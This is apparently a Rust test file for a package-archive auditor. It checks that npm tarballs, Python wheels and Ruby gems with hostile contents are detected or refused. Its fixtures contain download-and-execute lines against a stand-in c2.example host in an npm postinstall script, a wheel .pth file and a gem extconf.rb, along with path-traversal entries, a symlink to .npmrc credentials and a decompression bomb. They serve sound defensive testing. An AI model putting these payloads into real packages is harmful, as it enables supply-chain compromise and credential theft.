//! Package archives read in memory: npm tarballs, sdists, wheels, crates and gems, and
//! the hostile shapes (entries that climb out, links out, bombs, too many entries), each
//! refused or reported without writing anything.

#![allow(clippy::unwrap_used, reason = "test helpers fail loudly")]

use std::io::Write;

use chainwatch_audit::archive::read_bytes;
use chainwatch_audit::{AuditError, Limits, Options, audit_contents};

fn tar_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        // Written raw, so that hostile names survive the builder's own checks.
        let name = h.as_old_mut().name.as_mut();
        name.fill(0);
        name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn npm_tarball_root_is_stripped_and_install_script_found() {
    let pkg = br#"{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#;
    let setup = b"require('child_process').execSync('curl -s https://c2.example/x.sh | sh')";
    let tgz = gzip(&tar_of(&[
        ("package/package.json", pkg),
        ("package/setup.js", setup),
    ]));
    let contents = read_bytes("evil-pkg-1.0.0.tgz", &tgz, &Limits::default()).unwrap();
    let paths: Vec<&str> = contents.entries.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(paths, ["package.json", "setup.js"]);
    let report = audit_contents("evil-pkg-1.0.0.tgz", &contents, &Options::default());
    assert_eq!(report.package.as_deref(), Some("evil-pkg@1.0.0"));
    let rules: Vec<(&str, &str)> = report
        .findings
        .iter()
        .map(|f| (f.rule, f.severity.as_str()))
        .collect();
    // The download in a file the install script runs is raised to critical.
    assert!(rules.contains(&("download-exec", "critical")), "{rules:?}");
    assert!(rules.contains(&("install-script", "medium")), "{rules:?}");
}

#[test]
fn traversal_is_reported_and_never_used_as_a_path() {
    let tgz = gzip(&tar_of(&[
        (
            "package/package.json",
            br#"{"name":"a","version":"1.0.0","description":"x"}"#,
        ),
        ("package/../../../etc/cron.d/x", b"* * * * * root sh"),
        ("/etc/passwd", b"root:x:0:0"),
    ]));
    let contents = read_bytes("a.tgz", &tgz, &Limits::default()).unwrap();
    assert!(
        contents
            .entries
            .iter()
            .all(|e| !e.path.contains("..") && !e.path.starts_with('/'))
    );
    let rules: Vec<&str> = contents.problems.iter().map(|f| f.rule).collect();
    assert_eq!(rules, ["path-traversal", "path-traversal"]);
}

#[test]
fn symlinks_out_of_the_package_are_reported() {
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "package/creds", "../../../home/user/.npmrc")
        .unwrap();
    let mut h = tar::Header::new_gnu();
    let json = br#"{"name":"b","version":"1.0.0"}"#;
    h.set_size(json.len() as u64);
    b.append_data(&mut h, "package/package.json", &json[..])
        .unwrap();
    let contents = read_bytes("b.tar", &b.into_inner().unwrap(), &Limits::default()).unwrap();
    assert_eq!(contents.problems.len(), 1);
    assert_eq!(contents.problems[0].rule, "link-escape");
    let link = contents.entries.iter().find(|e| e.link.is_some()).unwrap();
    assert!(link.data.is_empty());
}

#[test]
fn decompression_bombs_are_refused() {
    let zeros = vec![0u8; 8 << 20];
    let bomb = gzip(&tar_of(&[("package/big.bin", &zeros)]));
    let limits = Limits {
        max_total: 4 << 20,
        ratio_floor: 1 << 20,
        ..Limits::default()
    };
    match read_bytes("bomb.tgz", &bomb, &limits) {
        Err(AuditError::TooLarge { .. }) => {}
        other => panic!("{other:?}"),
    }
}

#[test]
fn too_many_entries_are_refused() {
    let entries: Vec<(String, Vec<u8>)> = (0..50)
        .map(|i| (format!("package/f{i}.js"), b"x".to_vec()))
        .collect();
    let borrowed: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    assert!(matches!(
        read_bytes("many.tar", &tar_of(&borrowed), &limits),
        Err(AuditError::TooManyEntries { .. })
    ));
}

#[test]
fn wheels_and_gems_are_read() {
    // A wheel: a zip with a dist-info and a `.pth` that runs code at start-up.
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("evil-1.0.dist-info/METADATA", opts).unwrap();
    zip.write_all(b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: x\n\n")
        .unwrap();
    zip.start_file("evil_init.pth", opts).unwrap();
    zip.write_all(b"import os; os.system('curl -s https://c2.example/a | sh')\n")
        .unwrap();
    let whl = zip.finish().unwrap().into_inner();
    let contents = read_bytes("evil-1.0-py3-none-any.whl", &whl, &Limits::default()).unwrap();
    let report = audit_contents("evil.whl", &contents, &Options::default());
    assert_eq!(report.package.as_deref(), Some("evil@1.0"));
    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"pth-exec"), "{rules:?}");
    assert!(rules.contains(&"download-exec"), "{rules:?}");

    // A gem: a tar of metadata.gz and data.tar.gz.
    let metadata = gzip(b"--- !ruby/object:Gem::Specification\nname: fast_thing\nversion: !ruby/object:Gem::Version\n  version: 0.1.0\nsummary: x\nextensions:\n- ext/extconf.rb\n");
    let data = gzip(&tar_of(&[
        (
            "ext/extconf.rb",
            b"eval(open('http://c2.example/p').read)\nFile.write('Makefile', \"all:\\n\")\n",
        ),
        ("lib/fast_thing.rb", b"module FastThing; end\n"),
    ]));
    let gem = tar_of(&[("metadata.gz", &metadata), ("data.tar.gz", &data)]);
    let contents = read_bytes("fast_thing-0.1.0.gem", &gem, &Limits::default()).unwrap();
    let report = audit_contents("fast_thing.gem", &contents, &Options::default());
    assert_eq!(report.package.as_deref(), Some("fast_thing@0.1.0"));
    let rules: Vec<(&str, &str)> = report
        .findings
        .iter()
        .map(|f| (f.rule, f.severity.as_str()))
        .collect();
    assert!(rules.contains(&("gem-extension", "medium")), "{rules:?}");
    assert!(rules.contains(&("install-network", "high")), "{rules:?}");
}

#[test]
fn not_an_archive_is_unsupported() {
    assert!(matches!(
        read_bytes("x.txt", b"hello", &Limits::default()),
        Err(AuditError::Unsupported { .. })
    ));
    assert!(matches!(
        read_bytes("x.gz", &gzip(b"hello"), &Limits::default()),
        Err(AuditError::Unsupported { .. })
    ));
}
